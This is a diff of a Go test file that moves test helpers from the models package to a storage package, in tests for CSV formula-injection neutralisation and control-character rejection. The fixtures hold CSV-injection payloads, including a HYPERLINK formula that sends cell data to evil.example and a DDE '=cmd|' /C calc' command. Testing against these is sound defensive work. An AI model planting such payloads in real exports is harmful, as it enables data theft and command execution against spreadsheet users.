@@ -9,17 +9,18 @@ import (
 
 	"github.com/factline/factline/models"
 	"github.com/factline/factline/models/edtf"
+	"github.com/factline/factline/models/storage"
 )
 
 // TestCSVExportNeutralisesFormulasAndImportUndoesIt exports headlines that a
 // spreadsheet would run as formulas: no exported cell starts with = + - @ tab
 // or CR (plain numbers aside), and importing the export gives back the text.
 func TestCSVExportNeutralisesFormulasAndImportUndoesIt(t *testing.T) {
-	store := models.NewTestStore(t, nil)
+	store := storage.NewTestStore(t, nil)
 	titles := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1:A9)", "'=already quoted", "'plain quote", "Plain headline"}
 	var refs []models.Ref
 	for _, title := range titles {
-		e := models.MakeEvent(t, store, title, "2022-09-01")
+		e := storage.MakeEvent(t, store, title, "2022-09-01")
 		refs = append(refs, models.Ref{Kind: models.KindEvent, ID: e.ID})
 	}
 	described := &models.Event{Title: "Described", Description: "=1+1 in the text", Occurred: edtf.MustParse("2022-09-03")}
@@ -27,10 +28,10 @@ func TestCSVExportNeutralisesFormulasAndImportUndoesIt(t *testing.T) {
 		t.Fatal(err)
 	}
 	refs = append(refs, models.Ref{Kind: models.KindEvent, ID: described.ID})
-	speaker := models.MakeActor(t, store, "=cmd|' /C calc'!A0")
-	c := models.MakeClaim(t, store, speaker, "-1 said nothing", "2022-09-02")
+	speaker := storage.MakeActor(t, store, "=cmd|' /C calc'!A0")
+	c := storage.MakeClaim(t, store, speaker, "-1 said nothing", "2022-09-02")
 	refs = append(refs, models.Ref{Kind: models.KindClaim, ID: c.ID})
-	tl := models.MakeTimeline(t, store, "formulas", refs...)
+	tl := storage.MakeTimeline(t, store, "formulas", refs...)
 
 	out := exportString(t, store, tl, "csv")
 	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
@@ -46,7 +47,7 @@ func TestCSVExportNeutralisesFormulasAndImportUndoesIt(t *testing.T) {
 		}
 	}
 
-	other := models.NewTestStore(t, nil)
+	other := storage.NewTestStore(t, nil)
 	back := importString(t, other, out, "formulas.csv", "")
 	lt, err := other.LoadTimeline(models.AsSystem(context.Background()), back.Slug)
 	if err != nil {
@@ -76,7 +77,7 @@ func TestImportRefusesControlCharacters(t *testing.T) {
 	text := strings.Join(timelineJSColumns, ",") + "\n" +
 		"2022,8,31,,,,,,,Fine headline,,,,,,,,,\n" +
 		"2022,9,1,,,,,,,Bad\x01 headline,,,,,,,,,\n"
-	store := models.NewTestStore(t, nil)
+	store := storage.NewTestStore(t, nil)
 	ctx := models.AsSystem(context.Background())
 	doc, format, err := Read(strings.NewReader(text), "sheet.csv")
 	if err == nil {
